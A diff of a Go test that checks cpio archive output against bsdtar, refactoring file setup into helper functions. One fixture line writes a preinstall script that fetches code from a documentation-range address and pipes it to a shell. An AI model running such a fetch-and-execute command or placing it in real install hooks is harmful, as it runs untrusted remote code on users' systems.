@@ -16,26 +16,11 @@ import (
 // reads byte for byte under the names bsdtar shows; and bsdtar reads what
 // formats.Cpio writes.
 func TestCpioAsBsdtar(t *testing.T) {
-	bsdtar, err := exec.LookPath("bsdtar")
-	if err != nil {
-		t.Fatalf("bsdtar not found (scripts/deps.sh test installs libarchive-tools): %v", err)
-	}
+	bsdtar := toolNeeded(t, "bsdtar")
 	files := methodFiles()
-	src := t.TempDir()
-	if err := os.MkdirAll(filepath.Join(src, "Scripts"), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	names := []string{"Scripts"}
-	for name, data := range files {
-		if err := os.WriteFile(filepath.Join(src, name), data, 0o600); err != nil {
-			t.Fatal(err)
-		}
-		names = append(names, name)
-	}
 	files["Scripts/preinstall"] = []byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")
-	if err := os.WriteFile(filepath.Join(src, "Scripts/preinstall"), files["Scripts/preinstall"], 0o700); err != nil {
-		t.Fatal(err)
-	}
+	src := t.TempDir()
+	names := writeFiles(t, src, files)
 	if err := os.Symlink("report.txt", filepath.Join(src, "link")); err != nil {
 		t.Fatal(err)
 	}
